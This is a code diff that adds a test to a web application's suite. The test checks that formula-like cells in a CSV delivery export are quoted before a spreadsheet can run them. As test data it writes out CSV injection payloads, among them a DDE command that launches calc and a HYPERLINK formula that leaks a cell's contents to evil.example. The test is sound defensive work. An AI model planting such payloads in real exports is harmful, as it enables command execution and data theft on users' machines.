@@ -9,7 +9,7 @@ from datetime import date, timedelta
 
 import pytest
 
-from sqlalchemy import select, update
+from sqlalchemy import func, select, update
 
 from tests.console.conftest import post_form, sign_in, waiting_alert, work
 from tests.console.pdf import DPI, dark_pixels, embedded_fonts, run, tibetan_boxes
@@ -73,6 +73,25 @@ def test_the_csv_log_streams_every_delivery_masked_and_the_export_is_in_the_ledg
     exports = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "report.export")).all()
     assert [(e.subject_id, e.detail["masked"]) for e in exports] == [(alert_id, True)]
     assert verify(db.session)[1] is None
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_quoted(app, client, people):
+    """A gateway's code and text are the gateway's to write: a formula among them reaches no spreadsheet."""
+    alert_id = published_alert(app, client)
+    first = db.session.scalar(select(func.min(Delivery.id)).where(Delivery.alert_id == alert_id))
+    hostile = {"gateway_id": "@SUM(1+1)*cmd|' /C calc'!A0", "gateway_code": "-2+3",
+               "gateway_text": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'}
+    controls = {"gateway_id": "\r=2", "gateway_code": "+1", "gateway_text": "\t=1+1"}
+    db.session.execute(update(Delivery).where(Delivery.id == first).values(**hostile))
+    db.session.execute(update(Delivery).where(Delivery.alert_id == alert_id, Delivery.id != first).values(**controls))
+    db.session.commit()
+    sign_in(client, "auditor")
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/reports/alerts/{alert_id}/deliveries.csv")
+                                           .get_data(as_text=True))))
+    assert len(rows) > 1
+    for row in rows:
+        wanted = hostile if row["delivery"] == str(first) else controls
+        assert {name: row[name] for name in wanted} == {name: "'" + value for name, value in wanted.items()}
 
 
 def test_the_log_filters_and_only_an_admin_searches_by_number(app, client, people):
